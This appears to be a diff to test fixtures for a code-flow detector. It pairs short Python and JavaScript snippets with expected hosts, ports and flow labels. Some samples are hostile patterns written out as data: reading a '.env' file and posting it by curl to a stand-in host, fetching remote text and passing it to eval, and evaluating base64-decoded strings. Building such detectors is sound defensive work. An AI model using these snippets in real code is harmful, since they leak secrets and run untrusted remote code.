@@ -19,7 +19,7 @@ def flows(lang: str, code: str) -> set[str]:
 
 HOSTS = [
     ("python", "import urllib.request as u; u.urlopen('https://e.example/x')", ("e.example", 443)),
-    ("python", "from urllib.request import urlopen, Request; urlopen(Request('https://e.example'))", ("e.example", 443)),
+    ("python", "from urllib.request import urlopen, Request as R; urlopen(R('http://e.example'))", ("e.example", 80)),
     ("python", "import requests; requests.post('http://e.example', data='x')", ("e.example", 80)),
     ("python", "import requests; s = requests.Session(); s.get(url='http://e.example')", ("e.example", 80)),
     ("python", "import httpx; b = 'https://e.example'; httpx.get(b + '/x')", ("e.example", 443)),
@@ -104,7 +104,7 @@ FLOWS = [
     ("python", "import subprocess\nk = open('.env').read()\nsubprocess.run(['curl', '-d', k, 'http://e.example'])",
      "secret>network"),
     ("javascript", "fetch('http://e.example').then(r => r.text()).then(t => eval(t))", "network>exec"),
-    ("javascript", "require('http').get('http://e.example', r => r.on('data', d => eval(d.toString())))", "network>exec"),
+    ("javascript", "require('http').get('http://e.example', r => r.on('data', d => eval(d + '')))", "network>exec"),
     ("javascript", "eval(atob('YQ=='))", "decode>exec"),
     ("javascript", "eval(Buffer.from(x, 'base64').toString())", "decode>exec"),
     ("javascript", "new Function(String.fromCharCode(97))()", "decode>exec"),
